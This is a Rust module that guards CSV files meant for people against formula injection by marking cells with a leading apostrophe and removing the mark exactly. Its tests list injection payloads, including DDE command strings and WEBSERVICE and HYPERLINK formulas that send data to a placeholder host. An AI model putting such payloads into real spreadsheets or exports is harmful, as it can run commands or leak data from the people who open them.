//! The mark that keeps a spreadsheet from taking a text for a formula: an apostrophe before it, put in and taken out exactly.
//!
//! Only CSV for people needs it; typed text cells and CSV for machines go without. A program that splits at other places than we
//! do (at `;` or TAB, or at a line end inside quotation marks) would begin a cell there, so these places are marked too.

const MARK: char = '\'';

/// `text` as it can stand in a CSV file that people open.
#[must_use]
pub fn mark(text: &str) -> String {
    let mut marked = String::with_capacity(text.len() + 1);
    walk(text, |at_start, rest| {
        if at_start && is_formula(rest.trim_start_matches(MARK)) {
            marked.push(MARK);
        }
        marked.extend(rest.chars().next());
    });
    marked
}

/// Takes out exactly what [`mark`] put in.
#[must_use]
pub fn unmark(text: &str) -> String {
    let mut bare = String::with_capacity(text.len());
    walk(text, |at_start, rest| {
        let marked =
            at_start && rest.starts_with(MARK) && is_formula(rest.trim_start_matches(MARK));
        if !marked {
            bare.extend(rest.chars().next());
        }
    });
    bare
}

/// Whether a spreadsheet could take a cell that begins so for a formula.
#[must_use]
pub fn is_formula(cell: &str) -> bool {
    const BEGINNINGS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    let skipped = |each: char| {
        each == '"' || is_unseen(each) || (each.is_whitespace() && !BEGINNINGS.contains(&each))
    };
    cell.trim_start_matches(skipped).starts_with(BEGINNINGS)
}

fn is_unseen(character: char) -> bool {
    matches!(character, '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{2060}')
}

/// Goes through the characters of `text`: whether a cell could begin here, and what follows from here on.
fn walk(text: &str, mut each: impl FnMut(bool, &str)) {
    let mut at_start = true;
    for (place, character) in text.char_indices() {
        each(at_start, text.get(place..).unwrap_or_default());
        at_start = matches!(character, ';' | '\t' | '\r' | '\n');
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const PAYLOADS: [&str; 22] = [
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=WEBSERVICE(\"http://evil.example/\"&A1)",
        "+12065550100",
        "-2+3",
        " =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\"=1+1",
        "\"\"=1+1",
        "harmless;=1+1",
        "harmless\t=1+1",
        "two\n=lines",
        "x;\"=1+1\"",
    ];

    #[test]
    fn known_payloads_are_marked_and_come_back_as_they_were() {
        for payload in PAYLOADS {
            let marked = mark(payload);
            assert_ne!(marked, payload);
            for cell in marked
                .split([';', '\t', '\r', '\n'])
                .filter(|cell| !cell.is_empty())
            {
                assert!(!is_formula(cell), "{payload:?} became {marked:?}");
            }
            assert_eq!(unmark(&marked), payload);
        }
    }

    #[test]
    fn a_single_mark_is_taken_out_and_an_apostrophe_of_the_text_stays() {
        assert_eq!(mark("=1"), "'=1");
        assert_eq!(mark("'=1"), "''=1");
        assert_eq!(unmark("''=1"), "'=1");
        for own in ["O'Brien", "'t Hooft", "'", "it's", "2026-11-28", "a, -5"] {
            assert_eq!((mark(own), unmark(own)), (own.to_owned(), own.to_owned()));
        }
    }

    proptest! {
        #[test]
        fn what_was_marked_comes_back(text in "['=+@;\"\t\r\n a\u{feff}＝-]{0,12}") {
            let marked = mark(&text);
            prop_assert_eq!(unmark(&marked), text);
            let harmless = marked.split([';', '\t', '\r', '\n']).all(|cell| cell.is_empty() || !is_formula(cell));
            prop_assert!(harmless, "{:?}", marked);
        }

        #[test]
        fn any_text_comes_back(text in any::<String>()) {
            prop_assert_eq!(unmark(&mark(&text)), text);
        }
    }
}
